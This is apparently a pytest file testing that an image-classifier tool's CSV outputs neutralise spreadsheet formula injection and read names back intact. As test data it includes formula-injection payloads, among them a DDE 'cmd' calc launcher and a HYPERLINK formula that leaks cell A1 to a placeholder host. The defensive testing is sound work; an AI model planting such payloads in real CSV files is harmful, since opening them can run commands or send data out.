"""CSV formula injection (issue #31, item 12): a file, folder, class or run name that a
spreadsheet would run as a formula is written with a ``'`` in front in every CSV imgclf
writes, numbers never are, and imgclf reads its own CSVs back to the names as they were.

The data: class folders ``=cat``, ``+dog``, ``-bird`` under a source folder ``=src``, with
files named ``@…`` and ``=HYPERLINK(…)``, and one unreadable ``-bad.png``; imported, trained
for one epoch, predicted and reported through the real CLI.
"""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from helpers_train import make_image_folder, tiny_recipe, write_recipe
from imgclf.cli import main
from imgclf.csv_safe import FORMULA_STARTS, csv_text, neutralise, restore

CLASSES = ("=cat", "+dog", "-bird")
PAYLOAD = '=HYPERLINK("http://example.invalid/?"&A1,"x")'


def cells(path: Path) -> list[str]:
    with open(path, newline="", encoding="utf-8") as f:
        return [cell for row in csv.reader(f) for cell in row]


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def runnable(path: Path) -> list[str]:
    """The cells of ``path`` a spreadsheet would run as formulas."""
    return [c for c in cells(path) if c.startswith(FORMULA_STARTS) and not is_number(c)]


@pytest.fixture
def hostile(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """``=src`` (relative to the working folder, so that every source path in files.csv
    begins with ``=``), imported as ``evil``, and a one-epoch run on it in ``run``."""
    monkeypatch.chdir(tmp_path)
    src = make_image_folder(Path("=src"), per_class=6, classes=CLASSES)
    for i, cls in enumerate(CLASSES):
        (src / cls / f"{i}.png").rename(src / cls / f"@SUM({i}).png")
    (src / "=cat" / "1.png").rename(src / "=cat" / f"{PAYLOAD.replace('/', '_')}.png")
    (src / "-bird" / "-bad.png").write_bytes(b"not a png")
    assert main(["data", "import", str(src), "--name", "evil", "--val-fraction", "0.5"]) == 0
    recipe = write_recipe(tmp_path / "r.yaml", tiny_recipe(epochs=1))
    assert main(["train", str(recipe), "--data", "evil", "--out", "run", "--quiet"]) == 0
    return tmp_path


@pytest.mark.parametrize(
    "text",
    ["=1+1", "+1-1", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)", "\tx", "\rx", "'=x", "''+x", "'x",
     "plain", "", "-0.5", "+1e-3", "-inf", "'-0.5", "a=b"],
)  # fmt: skip
def test_a_cell_comes_back_as_it_was_and_no_written_cell_runs(text):
    written = neutralise(text)
    assert restore(written) == text
    bare = written.lstrip("'")
    if bare.startswith(FORMULA_STARTS) and not is_number(bare):
        assert written.startswith("'")


def test_numbers_and_number_text_are_never_quoted():
    row = [-0.5, -3, "-0.500000", "-1e-05", "+2", float("-inf"), "=cat"]
    assert csv_text([row]) == "-0.5,-3,-0.500000,-1e-05,+2,-inf,'=cat\n"
    assert csv_text([row], raw=True) == "-0.5,-3,-0.500000,-1e-05,+2,-inf,=cat\n"


def test_every_csv_of_import_train_and_predict_is_safe_and_read_back(hostile, capsys):
    ds = hostile / "imgclf-home" / "datasets" / "evil"
    run = hostile / "run"
    written = [ds / "files.csv", ds / "import-report.csv"]
    written += [run / name for name in ("confusion.csv", "per_class.csv", "mistakes.csv")]
    written += [run / "metrics.csv"]
    args = ["predict", "run", "run", "--input", "=src", "--out", "p.csv", "--vote", "soft"]
    assert main(args) == 0  # two runs: label_<run> columns too
    kaggle = ["predict", "run", "--input", "=src/=cat", "--out", "k.csv", "--format", "kaggle"]
    assert main(kaggle) == 0  # ids are file stems: @SUM(0), =HYPERLINK(…)
    written += [hostile / "p.csv", hostile / "k.csv"]
    for path in written:
        assert runnable(path) == [], path
    # Neutralised, not dropped: the names are all there, with a ' in front.
    assert {"'=cat", "'+dog", "'-bird"} <= set(cells(run / "per_class.csv"))
    assert "'+dog/@SUM(1).png" in cells(hostile / "p.csv")
    assert "'=src/-bird/-bad.png" in cells(ds / "import-report.csv")
    assert "'@SUM(0)" in cells(hostile / "k.csv")
    # imgclf's own readers restore them: files.csv (mistakes' file column), the import
    # report (data info) and mistakes.csv / per_class.csv (report).
    files = [c for c in cells(run / "mistakes.csv") if "src/" in c]
    assert files and all(c.startswith("'=src/") for c in files)  # one ', not ''
    capsys.readouterr()
    assert main(["data", "info", "evil"]) == 0
    assert "  =src/-bird/-bad.png: not an image" in capsys.readouterr().out
    assert main(["report", "run", "--out", "r.md"]) == 0
    report = (hostile / "r.md").read_text()
    assert "| =cat |" in report and "'=" not in report


def test_csv_raw_keeps_the_names_as_they_are(hostile):
    args = ["predict", "run", "--input", "=src", "--out", "raw.csv", "--csv-raw"]
    assert main(args) == 0
    values = cells(hostile / "raw.csv")
    assert "+dog/@SUM(1).png" in values and "=cat" in values
    assert not any(c.startswith("'") for c in values)
    assert runnable(hostile / "raw.csv")  # as asked: the machine reader gets them raw
